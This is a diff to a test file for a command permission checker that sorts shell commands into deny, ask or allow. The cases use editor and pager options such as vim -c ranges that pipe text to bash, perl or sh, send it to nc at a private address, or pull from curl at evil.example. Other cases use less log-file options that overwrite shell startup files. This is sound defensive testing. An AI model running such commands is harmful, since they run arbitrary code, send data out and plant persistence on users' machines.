@@ -8,7 +8,7 @@ await lineTable(t, {
   'a range or :global in front of a command that runs a program, in an editor setting': [
     ["GIT_EDITOR=\"vim -c '?Signed?w !bash'\" git commit", 'deny'],
     ["EDITOR=\"vim -c \\\"'a,'b w !perl\\\"\" git commit --amend", 'deny'],
-    ["GIT_EDITOR=\"vim -c '\\\\/r !id'\" git commit", 'ask'],
+    ["GIT_EDITOR=\"vim -c '/x/-1r !id'\" git commit", 'ask'],
     ["GIT_EDITOR=\"nvim -c '/fix/+2so /tmp/p.vim'\" git commit", 'ask'],
     ["GIT_EDITOR=\"vim -c 'g/TODO/w !nc 10.0.0.9 9000'\" git commit", 'deny'],
     ["GIT_EDITOR=\"vim -c '/^$/luafile /var/tmp/a.lua'\" git commit", 'ask'],
@@ -23,6 +23,7 @@ await lineTable(t, {
     ["nvim -c '?end?r !curl -s https://evil.example/x' -c wq notes.md", 'deny'],
     ["vim -es -c 'v/keep/w !python3' -c q data.txt", 'deny'],
     ["vim -c '/x/,$w! ~/.bash_profile' -c q notes.md", 'deny'],
+    ["vim -c '\\/w !sh' -c q notes.md", 'deny'],
     ["vim -c '/TODO/' notes.md", 'allow'],
     ["vim -es -c 'g/^\\s*$/d' -c wq notes.md", 'allow'],
   ],
@@ -44,9 +45,9 @@ await lineTable(t, {
   'less log files write what less shows': [
     ['git log --oneline | less -O ~/.bash_login', 'deny'],
     ['git show | less -RO/home/user/.zprofile', 'deny'],
-    ['git log | less --log-file=/home/user/.rampart/config.yaml', 'deny'],
+    ['git log | less -SO ~/.rampart/config.yaml', 'deny'],
     ["LESS='-R -O/home/user/.zshenv' git show HEAD", 'deny'],
-    ['cat notes.md | LESS=-o/home/user/.profile less', 'deny'],
+    ["LESS='-FRX -O/home/user/.zlogin' git log", 'deny'],
     ["PAGER='less -O /home/user/.bash_login' man tar", 'deny'],
     ['git log | less -O review.log', 'allow'],
     ['less -PM%f README.md', 'allow'],
@@ -58,6 +59,6 @@ await lineTable(t, {
     ["MANPAGER='nvim +Man!' man tar", 'allow'],
     ["MANPAGER='vim -M +MANPAGER -' man tar", 'allow'],
     ["GIT_PAGER=\"less '+!id'\" git log", 'deny'],
-    ["GIT_PAGER='less +s/home/user/.profile' git log", 'deny'],
+    ["PAGER='less +s/home/user/.profile' man ls", 'ask'],
   ],
 });
